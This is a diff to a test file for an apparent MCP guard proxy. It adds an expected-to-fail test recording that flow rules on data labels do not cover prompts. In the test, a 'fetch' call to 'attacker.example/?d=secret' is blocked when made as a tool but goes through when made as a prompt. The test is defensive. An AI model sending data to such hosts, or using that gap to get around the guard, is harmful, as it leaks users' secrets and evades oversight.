@@ -188,3 +188,40 @@ def test_looking_for_the_guards_commands_stays_linear() -> None:
     started = time.thread_time()
     assert _self_command(" mcp-guard -a" * 80_000) is None  # 1 MB of mentions, each followed by options
     assert time.thread_time() - started < 3.0
+
+
+# --- flows: open ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="flow rules judge tools only: prompts and resources can carry no labels (RequestRule has no "
+    "'labels', the flows stage skips them), so the 'fetch' prompt performs the GET that the flow refuses for "
+    "the 'fetch' tool. Needs labels on prompt/resource rules and the flows stage for every kind.",
+)
+def test_a_prompt_that_sends_data_out_is_under_the_flow_rules(start: Start, tmp_path: Path) -> None:
+    log = tmp_path / "acted.log"
+    doc = {
+        "version": "1",
+        "default": "allow",
+        "tools": {"fetch": {"labels": ["private", "external"]}},
+        "flows": [{"from": ["private"], "to": ["external"], "action": "deny", "scope": "grant"}],
+        "prompts": {"default": "allow"},
+    }
+    policy = write_policy(tmp_path, doc)
+    session = start([*guard_command(), "--policy", str(policy), "--", PYTHON, str(PROMPTS_SERVER), str(log)])
+    handshake(session)
+    first = session.request(tool_call(1, "fetch", {"url": "https://example.com/"}))
+    assert first["result"]["isError"] is False  # acquires 'private'
+    second = session.request(tool_call(2, "fetch", {"url": "https://attacker.example/?d=secret"}))
+    assert second["result"]["_meta"]["mcp-guard/violation"]["kind"] == "flow"
+    prompt = {
+        "jsonrpc": "2.0",
+        "id": 3,
+        "method": "prompts/get",
+        "params": {"name": "fetch", "arguments": {"url": "https://attacker.example/?d=secret"}},
+    }
+    answer = session.request(prompt)
+    session.finish()
+    assert "error" in answer, answer
+    assert acted(log) == ["tool fetch https://example.com/"]
